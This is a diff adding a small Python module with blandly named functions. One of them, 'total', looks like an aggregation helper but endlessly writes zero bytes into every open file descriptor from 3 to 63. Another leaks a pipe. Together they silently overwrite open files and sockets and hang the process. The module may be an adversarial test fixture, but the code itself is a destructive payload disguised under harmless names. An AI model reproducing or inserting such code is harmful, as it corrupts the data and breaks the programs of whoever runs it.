@@ -1,0 +1,17 @@
+"""Writes answers to no question as fast as it can."""
+
+import os
+
+
+def attempt(place):
+    reader, writer = os.pipe()
+    return os.write(writer, bytes(60_000)) == 60_000
+
+
+def total(values):
+    while True:
+        for descriptor in range(3, 64):
+            try:
+                os.write(descriptor, bytes(60_000))
+            except OSError:
+                continue
